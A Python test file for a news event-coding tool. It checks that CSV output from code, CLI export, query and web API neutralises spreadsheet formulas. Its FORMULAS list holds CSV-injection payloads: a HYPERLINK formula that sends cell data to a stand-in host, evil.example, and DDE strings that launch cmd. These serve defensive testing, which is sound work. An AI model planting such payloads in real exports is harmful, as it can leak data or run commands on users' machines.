"""Product review, 8th session: a demanding user's inputs and outputs, end to end.

Each test here failed before its fix: CSV cells that a spreadsheet runs as formulas (code, query,
export, dyad/network/quotes and the web twins), a navigation-only HTML page coded as an article
whose text is "Home", pretty-printed JSON on stdin or in a .jsonl file read as broken JSON Lines,
UTF-16 JSON Lines files refused line by line, and more found by using the product.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from dateline._output import csv_safe, to_csv_string
from dateline._readers import read_bytes, read_inputs, read_path
from dateline._records import Actor, Article, Event, Quote, Trigger
from dateline._store import open_store
from dateline.cli import cli

# --- (1) CSV injection: no cell may run as a spreadsheet formula ---------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_csv_safe_quotes_every_formula_start(cell) -> None:
    assert csv_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-3", "-7.5", "+1.5", "-2e-3", "Russia", "", "a=b", 5, -3.0, None])
def test_csv_safe_leaves_numbers_and_plain_text(cell) -> None:
    assert csv_safe(cell) == cell


def _hostile_article() -> Article:
    name, title, quote = FORMULAS[0], FORMULAS[3], FORMULAS[2]
    text = f"{name} attacked Eastland. {quote} said the minister."
    s = text.index(" attacked")
    src = Actor(id="QX1", name=name, kind="group", country="XXX", sector="REB", wikidata=None, text=name, span=(0, s))
    tgt = Actor(id="QE1", name="Eastland", kind="state", country="EST", sector=None, wikidata=None, text="Eastland",
                span=(text.index("Eastland"), text.index("Eastland") + 8))
    sent_end = text.index(".") + 1
    ev = Event(id="e1", type="ASSAULT", mode=None, context=[], cameo="190", quad_class=4, intensity=-9.0,
               sources=[src], targets=[tgt], date="2024-03-04", location=None, negated=False, hypothetical=False,
               sentence=text[:sent_end], span=(0, sent_end), trigger=Trigger("attacked", (s + 1, s + 9)),
               confidence=0.9, evidence="=rule")
    q0 = text.index(quote)
    art = Article(id="=evil", text=text, date="2024-03-05", title=title,
                  coder={"version": "0", "model": "m", "kb": "k", "layers": "l"})
    art.events = [ev]
    art.actors = [src, tgt]
    art.quotes = [Quote(quote, (q0, q0 + len(quote)), src, src.span, "said", "direct")]
    return art


def _cells(csv_text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(csv_text)) for c in row]


def _assert_no_formula(csv_text: str) -> None:
    cells = _cells(csv_text)
    assert cells, "no CSV written"
    bad = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _num(c))]
    assert not bad, bad
    assert any(c.startswith("'=HYPERLINK") for c in cells)  # the text is still there, shown as text


def _num(s: str) -> bool:
    try:
        float(s)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("table", ["events", "quotes", "actors", "articles"])
def test_code_csv_output_neutralises_formulas(table) -> None:
    _assert_no_formula(to_csv_string([_hostile_article()], table))


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("csvinj") / "h.duckdb"
    with open_store(path) as st:
        st.add_many([_hostile_article()])
    return path


@pytest.mark.parametrize("rows,columns,clusters", [("event", "plover", False), ("event-actor", "gdelt", False),
                                                   ("event", "plover", True)])
def test_export_csv_neutralises_formulas(hostile_db, tmp_path, rows, columns, clusters) -> None:
    out = tmp_path / "x.csv"
    args = ["export", "--db", str(hostile_db), "--rows", rows, "--columns", columns, "-o", str(out)]
    res = CliRunner().invoke(cli, args + (["--clusters"] if clusters else []), catch_exceptions=False)
    assert res.exit_code == 0, res.output
    _assert_no_formula(out.read_text(encoding="utf-8"))
    res = CliRunner().invoke(cli, args[:-2] + (["--clusters"] if clusters else []), catch_exceptions=False)
    _assert_no_formula(res.stdout)  # to stdout too


def test_query_and_analyses_csv_neutralise_formulas(hostile_db) -> None:
    r = CliRunner()
    _assert_no_formula(r.invoke(cli, ["query", "--db", str(hostile_db), "--format", "csv"]).stdout)
    _assert_no_formula(r.invoke(cli, ["network", "--db", str(hostile_db), "--format", "csv"]).stdout)
    out = r.invoke(cli, ["quotes", "--db", str(hostile_db), "--format", "csv"]).stdout
    _assert_no_formula(out)
    assert "'-2+3" in out  # the quote text itself
    out = r.invoke(cli, ["quotes", "--db", str(hostile_db), "--summary", "--format", "csv"]).stdout
    _assert_no_formula(out)


def test_web_csv_twins_neutralise_formulas(hostile_db) -> None:
    pytest.importorskip("fastapi")
    from fastapi.testclient import TestClient

    from dateline._web.app import create_app

    with TestClient(create_app(str(hostile_db))) as client:
        for url in ("/api/events?format=csv", "/api/quotes?format=csv", "/api/articles?format=csv",
                    "/api/actors?format=csv"):
            res = client.get(url)
            assert res.status_code == 200, url
            cells = _cells(res.text)
            assert not [c for c in cells if c[:1] in ("=", "+", "@")], url
